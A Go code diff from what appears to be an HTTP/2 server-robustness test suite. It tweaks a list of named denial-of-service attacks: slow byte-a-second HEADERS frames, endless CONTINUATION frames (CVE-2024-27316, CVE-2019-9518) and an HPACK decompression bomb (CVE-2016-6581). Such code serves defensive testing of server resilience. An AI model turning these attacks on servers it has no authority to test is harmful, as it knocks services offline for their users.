@@ -170,9 +170,12 @@ func slowBlock(c *conn) {
 	}
 }
 
+// slowFrameLen is more than slowFrame sends in an hour.
+const slowFrameLen = 10_000
+
 // slowFrame sends a frame of HEADERS that never ends, a byte each second.
 func slowFrame(c *conn) {
-	ok := c.sendPart(append(http2.AppendFrameHeader(nil, 10_000, http2.FrameHeaders, http2.FlagEndHeaders|http2.FlagEndStream, 1),
+	ok := c.sendPart(append(http2.AppendFrameHeader(nil, slowFrameLen, http2.FrameHeaders, http2.FlagEndHeaders|http2.FlagEndStream, 1),
 		string(c.head(get, pathQuick))+openValue...), 1)
 	for ok {
 		ok = c.sendPart([]byte("a"), 0) && c.sleep(time.Second)
@@ -231,8 +234,11 @@ func frame(b []byte, kind http2.FrameType, flags http2.Flags, id uint32, payload
 
 func uint32Of(v uint32) string { return string(binary.BigEndian.AppendUint32(nil, v)) }
 
-// openValue begins a field whose value never ends.
-var openValue = string(appendLength([]byte("\x00\x01x"), 1<<20))
+// openValue begins a field whose value takes a client that sends a byte each second a quarter of an hour.
+var openValue = string(appendLength([]byte("\x00\x01x"), 1000))
+
+// oneByteField is "accept-encoding: gzip, deflate" of the static table (RFC 7541, appendix A).
+const oneByteField = "\x90"
 
 // fieldOf16KB is a field that fills a frame.
 var fieldOf16KB = string(appendField(nil, "x", strings.Repeat("a", 16_000)))
@@ -293,7 +299,7 @@ func Attacks() []*Attack {
 		{Name: "over-limit", About: "far more open streams than the server allows", run: each(post, pathBody, "", false, nothing)},
 
 		{Name: "continuation", About: "a head of 16 KB in each of endless CONTINUATIONs, CVE-2024-27316", run: continued("", fieldOf16KB)},
-		{Name: "continuation-bytes", About: "a head that grows byte by byte, in endless CONTINUATIONs", run: continued(openValue, "a")},
+		{Name: "continuation-bytes", About: "a field in each of endless CONTINUATIONs of one byte", run: continued("", oneByteField)},
 		{Name: "continuation-empty", About: "endless empty CONTINUATIONs, CVE-2019-9518", run: continued("", "")},
 		{Name: "hpack-bomb", About: "60 MB of fields in 15 KB, CVE-2016-6581", Want: Bounded,
 			run: bomb(string(appendIndexed(nil, "x", strings.Repeat("a", 4000))), newest)},
